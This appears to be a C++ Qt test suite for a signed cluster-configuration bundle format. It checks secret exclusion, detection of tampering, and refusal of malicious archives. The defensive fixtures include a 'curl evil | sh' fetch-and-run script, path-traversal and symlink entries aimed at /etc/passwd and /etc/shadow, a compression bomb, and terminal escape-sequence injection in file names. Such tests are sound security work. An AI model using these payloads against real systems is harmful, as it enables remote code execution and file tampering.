#include "BundleFixture.h"
#include "bundle/BundleArchive.h"
#include "bundle/BundleManifest.h"
#include "bundle/BundleReader.h"
#include "delegation/PlanSignature.h"

#include <QRandomGenerator>

#include <archive.h>
#include <archive_entry.h>

using namespace sparkwire;
using namespace sparkwire::bundle;

namespace {

// One raw tar entry, for archives the writer would never make.
struct RawEntry
{
    RawEntry(QByteArray p, QByteArray d = {}, unsigned t = AE_IFREG, QByteArray l = {})
        : path(std::move(p))
        , data(std::move(d))
        , type(t)
        , link(std::move(l))
    {}
    QByteArray path;
    QByteArray data;
    unsigned type = AE_IFREG;
    QByteArray link; // symlink target or hard link source
};

QByteArray rawArchive(const QList<RawEntry> &entries, bool gzip = true)
{
    archive *a = archive_write_new();
    archive_write_set_format_pax_restricted(a);
    if (gzip) {
        archive_write_add_filter_gzip(a);
        archive_write_set_filter_option(a, "gzip", "compression-level", "1"); // fast
    }
    QByteArray out(80 << 20, '\0');
    size_t used = 0;
    archive_write_open_memory(a, out.data(), size_t(out.size()), &used);
    for (const RawEntry &e : entries) {
        archive_entry *entry = archive_entry_new();
        archive_entry_set_pathname(entry, e.path.constData());
        archive_entry_set_filetype(entry, e.type);
        archive_entry_set_perm(entry, 0644);
        if (e.type == AE_IFLNK)
            archive_entry_set_symlink(entry, e.link.constData());
        if (e.type == AE_IFREG && !e.link.isEmpty())
            archive_entry_set_hardlink(entry, e.link.constData());
        archive_entry_set_size(entry, e.type == AE_IFREG && e.link.isEmpty() ? e.data.size() : 0);
        archive_write_header(a, entry);
        if (e.type == AE_IFREG && e.link.isEmpty())
            archive_write_data(a, e.data.constData(), size_t(e.data.size()));
        archive_entry_free(entry);
    }
    archive_write_close(a);
    archive_write_free(a);
    out.resize(qsizetype(used));
    return out;
}

// `bytes` in one gzip stream, as a bundle's outer layer (libarchive's raw format: no tar).
QByteArray gzipOf(const QByteArray &bytes)
{
    archive *a = archive_write_new();
    archive_write_set_format_raw(a);
    archive_write_add_filter_gzip(a);
    QByteArray out(bytes.size() + 65536, '\0');
    size_t used = 0;
    archive_write_open_memory(a, out.data(), size_t(out.size()), &used);
    archive_entry *entry = archive_entry_new();
    archive_entry_set_filetype(entry, AE_IFREG);
    archive_entry_set_size(entry, bytes.size());
    archive_write_header(a, entry);
    archive_write_data(a, bytes.constData(), size_t(bytes.size()));
    archive_entry_free(entry);
    archive_write_close(a);
    archive_write_free(a);
    out.resize(qsizetype(used));
    return out;
}

QList<RawEntry> rawEntriesOf(const QList<BundleEntry> &entries)
{
    QList<RawEntry> raw;
    for (const BundleEntry &e : entries)
        raw << RawEntry{e.path.toUtf8(), e.data};
    return raw;
}

QList<BundleEntry> entriesOf(const QByteArray &archive)
{
    return BundleArchive::read(archive).valueOr({});
}

QByteArray rebuilt(const QList<BundleEntry> &entries)
{
    return BundleArchive::write(entries, QDateTime::currentDateTimeUtc()).valueOr({});
}

} // namespace

class TestBundle : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    std::optional<BundleFixture::Exported> m_exported;

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_exported = BundleFixture::exportTwoNode(m_dir.path());
        QVERIFY(m_exported);
    }

    void roundTrip()
    {
        const Result<OpenedBundle> opened = BundleReader::open(m_exported->archive);
        QVERIFY2(opened.ok(), qPrintable(opened.errorMessage()));
        const BundleManifest &m = opened->manifest;
        QVERIFY(opened->manifestJson.startsWith("{\"cluster\""));
        QCOMPARE(m.exporterId, m_exported->identity.id());
        QCOMPARE(m.record, m_exported->source.record);
        QCOMPARE(m.members.size(), 2);
        QCOMPARE(m.members.at(1).member.hostname, QStringLiteral("spark-b"));
        QVERIFY(!m.members.at(0).twins.isEmpty());
        for (const char *path : {"README.md",
                                 "nodes/spark-a/40-cx7.yaml",
                                 "nodes/spark-b/40-cx7.yaml",
                                 "nodes/spark-b/inventory.json",
                                 "env/nccl.env",
                                 "env/nccl-dmabuf.env",
                                 "env/nccl.docker.env",
                                 "env/docker-run-flags.txt",
                                 "launch/hostfile",
                                 "launch/torchrun.sh",
                                 "launch/accelerate.yaml",
                                 "nodes/spark-a/accelerate.yaml",
                                 "nodes/spark-b/accelerate.yaml",
                                 "grafana/sparkwire.json",
                                 "launch/vllm-ray.sh",
                                 "launch/trtllm-mpirun.sh",
                                 "launch/nccl-tests.sh",
                                 "ssh/config",
                                 "ssh/known_hosts",
                                 "ansible/inventory.yml",
                                 "ansible/group_vars/all.yml",
                                 "ansible/site.yml",
                                 "results/nccl-all_gather.json",
                                 "signer.pem"})
            QVERIFY2(opened->files.contains(QLatin1String(path)), path);
        // Accelerate takes the rank from its file: every member has its own.
        QVERIFY(opened->file(QStringLiteral("nodes/spark-b/accelerate.yaml"))
                    .contains("\nmachine_rank: 1\n"));
        QVERIFY(opened->file(QStringLiteral("launch/accelerate.yaml"))
                    .contains("\nmachine_rank: 0\nmain_process_ip: 192.168.177.1\n"));
        QFile grafana(QStringLiteral(SPARKWIRE_SOURCE_DIR "/packaging/grafana/sparkwire.json"));
        QVERIFY(grafana.open(QIODevice::ReadOnly));
        QCOMPARE(opened->file(QStringLiteral("grafana/sparkwire.json")), grafana.readAll());
        QCOMPARE(opened->netplanOf(m.members.at(1).member.id),
                 m_exported->source.members.at(1).netplan);
        QVERIFY(
            opened->file(QStringLiteral("launch/hostfile")).startsWith("192.168.177.1 slots=1\n"));
        QVERIFY(
            opened->file(QStringLiteral("env/nccl.env")).contains("export NCCL_SOCKET_IFNAME="));
        // The same source gives the same bytes (fixed times, order and owners), but for the
        // signature (ECDSA is randomised): compare every entry but the signature.
        const Result<QByteArray> again =
            BundleWriter::write(m_exported->source, m_exported->identity.certificatePem(),
                                m_exported->identity.privateKeyPem());
        QVERIFY(again.ok());
        const QList<BundleEntry> a = entriesOf(m_exported->archive);
        const QList<BundleEntry> b = entriesOf(*again);
        QCOMPARE(a.size(), b.size());
        for (int i = 0; i < a.size(); ++i)
            if (a[i].path != QLatin1String(BundleManifest::kSignatureFileName))
                QCOMPARE(a[i].data, b[i].data);
    }

    void secretsNeverIncluded()
    {
        const QByteArray key = m_exported->identity.privateKeyPem();
        QVERIFY(key.contains("PRIVATE KEY"));
        const QList<BundleEntry> entries = entriesOf(m_exported->archive);
        QVERIFY(!entries.isEmpty());
        QByteArray everything;
        for (const BundleEntry &e : entries)
            everything += e.path.toUtf8() + '\n' + e.data + '\n';
        QVERIFY(!everything.contains("PRIVATE KEY"));
        for (const QByteArray &line : key.split('\n'))
            if (!line.startsWith("-----") && line.size() > 8)
                QVERIFY2(!everything.contains(line), "a line of the private key is in the bundle");
        // No file of the state dir that holds secrets (identity, paired peers, delegations).
        for (const BundleEntry &e : entries) {
            QVERIFY(!e.path.contains(QLatin1String("identity")));
            QVERIFY(!e.path.contains(QLatin1String("paired")));
            QVERIFY(!e.path.endsWith(QLatin1String("id_ed25519")));
        }
        // A source that would carry a private key is refused, nothing is written.
        BundleSource leaky = m_exported->source;
        leaky.knownHosts = key;
        const Result<QByteArray> refused =
            BundleWriter::write(leaky, m_exported->identity.certificatePem(), key);
        QVERIFY(!refused.ok());
        QCOMPARE(refused.error().code, ErrorCode::PermissionDenied);
    }

    void tampering_data()
    {
        QTest::addColumn<QString>("how");
        QTest::addColumn<QString>("expected");
        QTest::newRow("file changed") << "change:launch/hostfile"
                                      << "does not match its SHA-256";
        QTest::newRow("netplan changed") << "change:nodes/spark-b/40-cx7.yaml"
                                         << "SHA-256";
        QTest::newRow("file added") << "add:launch/evil.sh"
                                    << "not in its manifest";
        QTest::newRow("file removed") << "remove:ssh/known_hosts"
                                      << "incomplete";
        QTest::newRow("manifest changed") << "change:manifest.json"
                                          << "signature";
        QTest::newRow("signature removed") << "remove:manifest.json.sig"
                                           << "missing";
        QTest::newRow("signature of other key") << "resign"
                                                << "signer.pem is not the key";
        QTest::newRow("signature bytes") << "change:manifest.json.sig"
                                         << "signature";
        QTest::newRow("signer replaced") << "signer"
                                         << "signer.pem is not the key";
    }
    void tampering()
    {
        QFETCH(QString, how);
        QFETCH(QString, expected);
        QList<BundleEntry> entries = entriesOf(m_exported->archive);
        const QString verb = how.section(QLatin1Char(':'), 0, 0);
        const QString path = how.section(QLatin1Char(':'), 1);
        auto find = [&](const QString &p) {
            return std::find_if(entries.begin(), entries.end(),
                                [&](const BundleEntry &e) { return e.path == p; });
        };
        QTemporaryDir other;
        const auto otherIdentity =
            discovery::NodeIdentity::loadOrCreate(other.path(), QStringLiteral("spark-x"));
        QVERIFY(otherIdentity.ok());
        if (verb == QLatin1String("change")) {
            auto it = find(path);
            QVERIFY(it != entries.end());
            if (path == QLatin1String("manifest.json"))
                it->data.replace("spark-b", "spark-x");
            else
                it->data[it->data.size() / 2] = char(it->data.at(it->data.size() / 2) ^ 1);
        } else if (verb == QLatin1String("add")) {
            entries << BundleEntry{path, "#!/bin/sh\ncurl evil | sh\n", true};
        } else if (verb == QLatin1String("remove")) {
            auto it = find(path);
            QVERIFY(it != entries.end());
            entries.erase(it);
        } else if (verb == QLatin1String("resign") || verb == QLatin1String("signer")) {
            // Another key signs the manifest as it is (resign), or its certificate replaces
            // signer.pem with the exporter's signature kept (signer).
            const QByteArray manifest = find(QStringLiteral("manifest.json"))->data;
            if (verb == QLatin1String("resign"))
                find(QStringLiteral("manifest.json.sig"))->data = *delegation::PlanSignature::sign(
                    otherIdentity->privateKeyPem(), BundleManifest::signedMessage(manifest));
            find(QStringLiteral("signer.pem"))->data = otherIdentity->certificatePem();
        }
        const Result<OpenedBundle> opened = BundleReader::open(rebuilt(entries));
        QVERIFY(!opened.ok());
        QVERIFY2(opened.errorMessage().contains(expected), qPrintable(opened.errorMessage()));
    }

    void hostile_data()
    {
        QTest::addColumn<QByteArray>("archive");
        QTest::addColumn<QString>("expected");
        const QByteArray ok = "hello\n";
        QTest::newRow("absolute path") << rawArchive({{"/etc/passwd", ok}}) << "unsafe name";
        QTest::newRow("dot dot") << rawArchive({{"nodes/../../x", ok}}) << "unsafe name";
        QTest::newRow("dot") << rawArchive({{"./README.md", ok}}) << "unsafe name";
        QTest::newRow("symlink") << rawArchive({{"ssh/config", {}, AE_IFLNK, "/etc/shadow"}})
                                 << "symbolic link";
        QTest::newRow("hard link")
            << rawArchive({{"a", ok}, {"b", {}, AE_IFREG, "a"}}) << "hard link";
        QTest::newRow("char device") << rawArchive({{"dev", {}, AE_IFCHR}}) << "device";
        QTest::newRow("fifo") << rawArchive({{"fifo", {}, AE_IFIFO}}) << "device";
        QTest::newRow("directory") << rawArchive({{"nodes", {}, AE_IFDIR}}) << "not a file";
        QTest::newRow("duplicate") << rawArchive({{"a", ok}, {"a", ok}}) << "twice";
        QByteArray noise(BundleArchive::kMaxFileBytes, '\0');
        QRandomGenerator rng(13);
        rng.fillRange(reinterpret_cast<quint32 *>(noise.data()), noise.size() / 4);
        QTest::newRow("file over 1 MiB")
            << rawArchive({{"big", noise + "x"}}) << "larger than 1 MiB";
        // Four bits a byte: packs to half, far from a bomb, but 65 MiB unpacked.
        QByteArray digits = noise;
        for (char &c : digits)
            c = char('a' + (c & 15));
        QList<RawEntry> many;
        for (int i = 0; i < 65; ++i)
            many << RawEntry{"f" + QByteArray::number(i), digits};
        QTest::newRow("total over 64 MiB") << rawArchive(many) << "more than 64 MiB";
        QTest::newRow("bomb") << rawArchive({{"zeros", QByteArray(1 << 20, '\0')}})
                              << "compression bomb";
        const QByteArray whole = m_exported->archive;
        QTest::newRow("truncated") << whole.left(whole.size() / 2) << "truncated";
        QTest::newRow("truncated end") << whole.left(whole.size() - 9) << "truncated";
        QTest::newRow("not an archive") << QByteArray("not a bundle at all\n") << "not a Sparkwire";
        QTest::newRow("empty") << QByteArray() << "not a Sparkwire";
        QTest::newRow("no manifest") << rawArchive({{"README.md", ok}}) << "missing";
        // The outer format is exactly the writer's: one gzip stream of a tar, nothing after.
        const QList<RawEntry> real = rawEntriesOf(entriesOf(whole));
        QTest::newRow("plain tar") << rawArchive(real, false) << "uncompressed tar";
        QTest::newRow("bytes after the gzip stream") << whole + "x"
                                                     << "after the end";
        QTest::newRow("zeros after the gzip stream")
            << whole + QByteArray(512, '\0') << "after the end";
        QTest::newRow("second gzip stream") << whole + gzipOf("echo pwned\n") << "after the end";
        QTest::newRow("bytes after the tar's end")
            << gzipOf(rawArchive(real, false) + "#!/bin/sh\n") << "after the end of its archive";
        QTest::newRow("zeros past the tar's last record")
            << gzipOf(rawArchive(real, false) + QByteArray(BundleArchive::kTarRecordBytes, '\0'))
            << "after the end of its archive";
        QTest::newRow("tar without its end")
            << gzipOf(rawArchive(real, false).left(512 * 3)) << "truncated";
        QTest::newRow("gzip of gzip") << gzipOf(whole) << "gzip exactly once";
        QList<BundleEntry> entries = entriesOf(whole);
        entries[0].data.replace("\"schema\":1", "\"schema\":2");
        QTest::newRow("unknown schema") << rebuilt(entries) << "schema version 2";
        entries = entriesOf(whole);
        entries[0].data.replace("\"schema\":1,", "");
        QTest::newRow("schema missing") << rebuilt(entries) << "manifest is not valid";
        entries = entriesOf(whole);
        entries[0].data.replace("\"README.md\"", "\"../README.md\"");
        QTest::newRow("manifest path") << rebuilt(entries) << "not a safe path";
    }
    void hostile()
    {
        QFETCH(QByteArray, archive);
        QFETCH(QString, expected);
        const Result<OpenedBundle> opened = BundleReader::open(archive);
        QVERIFY(!opened.ok());
        QVERIFY2(opened.errorMessage().contains(expected), qPrintable(opened.errorMessage()));
    }

    // tar's own zero padding of its last record is not "after the end": the bundle's files
    // packed again by another tar (libarchive's default blocking, as GNU tar pads) still open.
    void repackedWithRecordPaddingOpens()
    {
        const QByteArray repacked = rawArchive(rawEntriesOf(entriesOf(m_exported->archive)));
        QVERIFY(repacked != m_exported->archive);
        const Result<OpenedBundle> opened = BundleReader::open(repacked);
        QVERIFY2(opened.ok(), qPrintable(opened.errorMessage()));
        QCOMPARE(opened->manifest.exporterId, m_exported->identity.id());
    }

    // A name from the archive reaches a refusal only escaped as peer text is: no escape
    // sequence (title, clear screen, colour), newline or bidi override gets to the terminal.
    void namesInRefusalsAreEscaped_data()
    {
        QTest::addColumn<QByteArray>("archive");
        QTest::addColumn<QString>("escaped");
        const QString esc = QStringLiteral("\\u{1b}");
        const QByteArray evil = "\x1b]0;owned\x07\x1b[2J\x1b[32mOK: verified\x1b[0m\nline2"
                                "\xe2\x80\xae"; // U+202E
        QTest::newRow("unsafe name") << rawArchive({{evil, "x"}}) << esc;
        QTest::newRow("symlink") << rawArchive({{evil, {}, AE_IFLNK, "/etc/shadow"}}) << esc;
        QTest::newRow("directory") << rawArchive({{evil, {}, AE_IFDIR}}) << esc;
        QTest::newRow("fifo") << rawArchive({{evil, {}, AE_IFIFO}}) << esc;
        QTest::newRow("hard link") << rawArchive({{"a", "x"}, {evil, {}, AE_IFREG, "a"}}) << esc;
        // In the manifest: a path of its file list (a key: JSON escapes are refused there, a
        // raw U+202E is not), and the version quoted by the schema check.
        QList<BundleEntry> entries = entriesOf(m_exported->archive);
        entries[0].data.replace("\"README.md\"", "\"README\xe2\x80\xae.md\"");
        QTest::newRow("manifest path") << rebuilt(entries) << QStringLiteral("\\u{202e}");
        entries = entriesOf(m_exported->archive);
        entries[0].data.replace("\"schema\":1", "\"schema\":2");
        const qsizetype v = entries[0].data.indexOf("\"sparkwireVersion\":\"") + 20;
        entries[0].data.insert(v, "\\u001b[2J\\n\\u202e");
        QTest::newRow("manifest version") << rebuilt(entries) << esc;
    }
    void namesInRefusalsAreEscaped()
    {
        QFETCH(QByteArray, archive);
        QFETCH(QString, escaped);
        const Result<OpenedBundle> opened = BundleReader::open(archive);
        QVERIFY(!opened.ok());
        const QString message = opened.errorMessage() + opened.error().detail;
        for (const QChar c : {QChar(0x1b), QChar(0x07), QChar(u'\n'), QChar(0x202e)})
            QVERIFY2(!message.contains(c), qPrintable(message));
        QVERIFY2(message.contains(escaped), qPrintable(message));
    }

    void fileName()
    {
        const BundleSource &s = m_exported->source;
        QCOMPARE(s.fileName(), s.record.name + QLatin1Char('-') +
                                   s.createdAt.toString(QStringLiteral("yyyy-MM-dd")) +
                                   QStringLiteral(".sparkwire.tar.gz"));
    }
};

QTEST_GUILESS_MAIN(TestBundle)
#include "tst_bundle.moc"
